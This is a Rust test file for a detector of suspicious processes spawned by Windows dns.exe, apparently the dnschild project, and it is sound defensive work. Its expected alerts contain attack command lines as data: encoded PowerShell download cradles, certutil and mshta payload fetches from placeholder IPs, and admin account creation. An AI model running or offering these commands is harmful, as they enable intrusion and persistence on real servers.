//! The shipped samples (`samples/`) give the verdicts `samples/README.md` lists, with the
//! exact alert fields an analyst would read.

mod common;

use std::path::{Path, PathBuf};

use dnschild::rule::Skip;
use dnschild::{Engine, EventError, Outcome, Shape};

fn samples() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("samples")
}

fn lines(name: &str) -> Vec<String> {
    common::jsonl(&samples(), name)
}

/// What one positive sample's alert says.
struct Want {
    shape: Shape,
    hostname: &'static str,
    process_name: &'static str,
    parent_process_name: &'static str,
    command_line: &'static str,
    user_name: &'static str,
    file_name: &'static str,
}

const fn w(
    shape: Shape,
    hostname: &'static str,
    process_name: &'static str,
    parent_process_name: &'static str,
    command_line: &'static str,
    user_name: &'static str,
    file_name: &'static str,
) -> Want {
    Want { shape, hostname, process_name, parent_process_name, command_line, user_name, file_name }
}

const DNS: &str = r"C:\Windows\System32\dns.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const SYSTEM: &str = r"NT AUTHORITY\SYSTEM";

/// `positives.ndjson`, line by line (P01..P19 in the README).
const POSITIVES: [Want; 19] = [
    w(Shape::EvtxJson, "DNS01.corp.example", CMD, DNS, "cmd.exe /c whoami /priv", SYSTEM, "cmd.exe"),
    w(
        Shape::EvtxJson,
        "DNS02.corp.example",
        r"\Device\HarddiskVolume2\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"\Device\HarddiskVolume2\Windows\System32\dns.exe",
        "powershell.exe -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAHMAJwApAA==",
        r"CORP\DNS02$",
        "powershell.exe",
    ),
    w(
        Shape::Winlogbeat,
        "NS1.branch.corp.example",
        r"C:\Windows\System32\rundll32.exe",
        r"\\?\C:\Windows\System32\dns.exe",
        r"rundll32.exe C:\ProgramData\DnsCache\dnsext.dll,DnsPluginInitialize",
        SYSTEM,
        "rundll32.exe",
    ),
    w(Shape::Ecs, "dns03", r"C:\WINDOWS\SYSTEM32\WerFault.exe", r"C:\WINDOWS\SYSTEM32\DNS.EXE", r"C:\WINDOWS\SYSTEM32\WerFault.exe -u -p 1864 -s 2212", SYSTEM, "WerFault.exe"),
    w(Shape::Ecs, "DNS01.corp.example", r"C:\Users\Public\Libraries\dnsmgmt.exe", "dns.exe", r#""C:\Users\Public\Libraries\dnsmgmt.exe" -install -q"#, r"CORP\DNS01$", "dnsmgmt.exe"),
    w(Shape::FluentBitWinevtlog, "DNS04.corp.example", CMD, DNS, r#"cmd.exe /c net group "Domain Admins" /domain > C:\Windows\Temp\g.txt"#, SYSTEM, "cmd.exe"),
    w(
        Shape::FluentBitWinevtlog,
        "DNS04.corp.example",
        PS,
        DNS,
        "powershell -nop -w hidden -enc RwBlAHQALQBBAEQARwByAG8AdQBwAE0AZQBtAGIAZQByACAAJwBEAG8AbQBhAGkAbgAgAEEAZABtAGkAbgBzACcAIAB8ACAATwB1AHQALQBGAGkAbABlACAAQwA6AFwAVwBpAG4AZABvAHcAcwBcAFQAZQBtAHAAXABnAGEALgB0AHgAdAA=",
        SYSTEM,
        "powershell.exe",
    ),
    w(Shape::FluentBitWinevtlog, "NS2.branch.corp.example", r"C:\Windows\System32\rundll32.exe", r"C:\WINDOWS\system32\dns.exe", r"rundll32.exe \\10.20.30.40\pub\dnsprov.dll,ServiceMain", SYSTEM, "rundll32.exe"),
    w(Shape::FluentBitWinevtlog, "DNS05.corp.example", r"C:\Windows\Temp\dnsplug\svcupd.exe", DNS, r"C:\Windows\Temp\dnsplug\svcupd.exe /stage2", r"CORP\DNS05$", "svcupd.exe"),
    w(
        Shape::FluentBitWinevtlogMap,
        "DNS06.corp.example",
        r"C:\Windows\System32\certutil.exe",
        DNS,
        r"certutil.exe -urlcache -split -f http://198.51.100.23/a.bin C:\Windows\Temp\a.bin",
        SYSTEM,
        "certutil.exe",
    ),
    w(Shape::FluentBitWinevtlogXml, "DNS07.corp.example", CMD, DNS, "cmd.exe /c whoami & hostname & ipconfig /all", SYSTEM, "cmd.exe"),
    w(Shape::FluentBitWinlog, "DNS08.corp.example", r"C:\Windows\System32\whoami.exe", DNS, "whoami /groups /fo list", r"CORP\DNS08$", "whoami.exe"),
    w(
        Shape::NxlogJson,
        "DNS09.corp.example",
        r"C:\Windows\System32\reg.exe",
        DNS,
        r"reg.exe query HKLM\SYSTEM\CurrentControlSet\Services\DNS\Parameters /v ServerLevelPluginDll",
        SYSTEM,
        "reg.exe",
    ),
    w(Shape::NxlogJson, "DNS10.corp.example", CMD, r"\??\C:\Windows\System32\dns.exe", "cmd.exe /c ipconfig /all", r"CORP\DNS10$", "cmd.exe"),
    w(
        Shape::SplunkRaw,
        "DNS11.corp.example",
        PS,
        DNS,
        "powershell.exe -ep bypass -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUAMAAvAGQAIAAtAE8AdQB0AEYAaQBsAGUAIABDADoAXABQAHIAbwBnAHIAYQBtAEQAYQB0AGEAXABkAC4AZQB4AGUA",
        SYSTEM,
        "powershell.exe",
    ),
    w(Shape::SplunkCim, "DNS12.corp.example", "C:/Windows/System32/cmd.exe", "C:/Windows/System32/dns.exe", "cmd.exe /c whoami", "SYSTEM", "cmd.exe"),
    w(Shape::Ocsf, "DNS13.corp.example", r"C:\Windows\System32\mshta.exe", DNS, "mshta.exe http://203.0.113.8/p.hta", SYSTEM, "mshta.exe"),
    w(Shape::Log360, "DNS14", CMD, DNS, "cmd.exe /c whoami", "SYSTEM", "cmd.exe"),
    w(
        Shape::Winlogbeat,
        "DNS15.corp.example",
        r"\\fs01.corp.example\deploy$\dnsdiag.exe",
        DNS,
        r"\\fs01.corp.example\deploy$\dnsdiag.exe --collect",
        r"CORP\DNS15$",
        "dnsdiag.exe",
    ),
];

fn check_alert(outcome: Result<Outcome, EventError>, want: &Want, what: &str) {
    let a = match outcome {
        Ok(Outcome::Alert(a)) => a,
        other => panic!("{what}: expected an alert, got {other:?}"),
    };
    assert_eq!(a.shape, want.shape, "{what}");
    assert_eq!(a.hostname.as_deref(), Some(want.hostname), "{what} hostname");
    assert_eq!(a.process_name.as_deref(), Some(want.process_name), "{what} process_name");
    assert_eq!(a.parent_process_name.as_deref(), Some(want.parent_process_name), "{what} parent_process_name");
    assert_eq!(a.command_line.as_deref(), Some(want.command_line), "{what} command_line");
    assert_eq!(a.user_name.as_deref(), Some(want.user_name), "{what} user_name");
    assert_eq!(a.file_name.as_deref(), Some(want.file_name), "{what} file_name");
    assert_eq!(a.profile.name(), "seed", "{what}");
    assert!(a.notes.is_empty(), "{what}: {:?}", a.notes);
    assert!(a.event_time.is_some(), "{what}: every sample carries a time");
}

#[test]
fn every_positive_alerts_with_its_fields() {
    let e = Engine::default();
    let lines = lines("positives.ndjson");
    assert_eq!(lines.len(), POSITIVES.len(), "positives.ndjson and the table disagree");
    for (i, (line, want)) in lines.iter().zip(&POSITIVES).enumerate() {
        check_alert(e.explain(line), want, &format!("P{:02}", i + 1));
        // The bytes entry point agrees.
        assert!(e.evaluate_bytes(line.as_bytes()).unwrap().is_some(), "P{:02} via bytes", i + 1);
    }
    // Every JSON shape the core supports is among the positives.
    for s in dnschild::Shape::ALL.into_iter().filter(|s| *s != Shape::EventXml) {
        assert!(POSITIVES.iter().any(|p| p.shape == s), "no positive sample of {}", s.name());
    }
}

/// `negatives.ndjson`, line by line (N01..N11): the outcome and why.
const NEGATIVES: [Outcome; 11] = [
    Outcome::FastReject,
    Outcome::FastReject,
    Outcome::NoAlert(Shape::FluentBitWinevtlog, Skip::ChildExcluded),
    Outcome::NoAlert(Shape::Ecs, Skip::ParentNotDns),
    Outcome::NoAlert(Shape::Winlogbeat, Skip::ParentNotDns),
    Outcome::NoAlert(Shape::SplunkRaw, Skip::ParentNotDns),
    Outcome::NoAlert(Shape::EvtxJson, Skip::NotProcessStart),
    Outcome::NoAlert(Shape::EvtxJson, Skip::NoParent),
    Outcome::NoAlert(Shape::Ocsf, Skip::NotProcessStart),
    Outcome::NoAlert(Shape::Log360, Skip::ChildExcluded),
    Outcome::FastReject,
];

#[test]
fn no_negative_alerts_and_each_says_why() {
    let e = Engine::default();
    let lines = lines("negatives.ndjson");
    assert_eq!(lines.len(), NEGATIVES.len(), "negatives.ndjson and the table disagree");
    for (i, (line, want)) in lines.iter().zip(&NEGATIVES).enumerate() {
        assert_eq!(&e.explain(line).unwrap(), want, "N{:02}", i + 1);
        // The fast-rejected ones are well-formed events the full path also declines.
        let full = e.explain_full(line).unwrap();
        assert!(!matches!(full, Outcome::Alert(_) | Outcome::Unrecognised), "N{:02} full path: {full:?}", i + 1);
    }
}

#[test]
fn xml_samples_give_their_listed_verdicts() {
    let e = Engine::default();
    let sysmon = [
        Ok(w(
            Shape::EventXml,
            "DNS01.corp.example",
            CMD,
            DNS,
            "cmd.exe /c net user svc_dnsbk Winter2025! /add && net localgroup administrators svc_dnsbk /add",
            SYSTEM,
            "cmd.exe",
        )),
        Err(Outcome::NoAlert(Shape::EventXml, Skip::ChildExcluded)),
        Ok(w(Shape::EventXml, "DNS01.corp.example", r"C:\Windows\System32\WerFault.exe", DNS, r"C:\Windows\system32\WerFault.exe -u -p 2296 -s 1020", SYSTEM, "WerFault.exe")),
        Err(Outcome::NoAlert(Shape::EventXml, Skip::NotProcessStart)),
    ];
    let security = [
        Ok(w(
            Shape::EventXml,
            "DC-DNS03.corp.example",
            r"C:\ProgramData\Microsoft\DnsSvc\dnsupd.exe",
            DNS,
            r#""C:\ProgramData\Microsoft\DnsSvc\dnsupd.exe" -connect 198.51.100.77:443 -k <redacted>"#,
            r"CORP\DC-DNS03$",
            "dnsupd.exe",
        )),
        Err(Outcome::NoAlert(Shape::EventXml, Skip::NoParent)),
    ];
    for (file, table) in [("sysmon.xml", &sysmon[..]), ("security-4688.xml", &security[..])] {
        let events = common::xml_events(&samples(), file);
        assert_eq!(events.len(), table.len(), "{file}");
        for (i, (ev, want)) in events.iter().zip(table).enumerate() {
            let what = format!("{file} event {}", i + 1);
            match want {
                Ok(want) => check_alert(e.explain(ev), want, &what),
                Err(outcome) => assert_eq!(&e.explain(ev).unwrap(), outcome, "{what}"),
            }
        }
        // The whole file is a stream of events: it must be split first, and says so.
        let whole = std::fs::read_to_string(samples().join(file)).unwrap();
        let err = e.evaluate(&whole).unwrap_err();
        assert_eq!(err.kind(), "malformed_xml", "{file}");
        assert!(matches!(&err, EventError::Xml(x) if x.kind == dnschild::xml::XmlErrorKind::MultipleEvents), "{file}: {err:?}");
    }
}

#[test]
fn the_xml_positive_hides_dns_exe_behind_a_character_reference() {
    let ev = &common::xml_events(&samples(), "sysmon.xml")[0];
    assert!(ev.contains(r"<Data Name='ParentImage'>C:\Windows\System32\&#x64;ns.exe</Data>"));
    assert!(ev.contains("&amp;&amp;"));
    assert!(ev.contains("Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'"));
}
